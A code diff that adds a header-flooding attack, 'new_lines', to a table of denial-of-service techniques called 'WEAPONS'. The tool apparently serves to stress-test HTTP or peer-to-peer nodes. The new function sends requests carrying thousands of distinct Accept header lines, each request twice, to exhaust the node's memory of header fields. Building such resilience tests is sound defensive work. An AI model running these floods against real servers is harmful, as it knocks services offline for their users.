@@ -89,6 +89,16 @@ def pipeline_present(aim: Aim) -> None:
         flood(sock, aim, request(ATTACKED) * 500)
 
 
+def new_lines(aim: Aim) -> None:
+    """Field lines of public names that come twice and not again for long: more of them than a node remembers."""
+    heads = []
+    for number in range(100):
+        lines = (f"Accept: {100 * number + line:0400d}\r\n" for line in range(30))
+        heads.append(request("nobody", fields="".join(lines)))
+    with client(aim) as sock:
+        flood(sock, aim, b"".join(head * 2 for head in heads))
+
+
 def small_chunks(aim: Aim) -> None:
     with client(aim) as sock:
         sock.sendall(request(ATTACKED, method="POST", fields="Transfer-Encoding: chunked\r\n"))
@@ -206,6 +216,7 @@ def silence(aim: Aim, count: int = 100) -> None:
 WEAPONS: dict[str, Callable[[Aim], None]] = {
     "pipeline-absent": pipeline_absent,
     "pipeline-present": pipeline_present,
+    "new-lines": new_lines,
     "small-chunks": small_chunks,
     "small-frames": small_frames,
     "yamux-pings": yamux_pings,
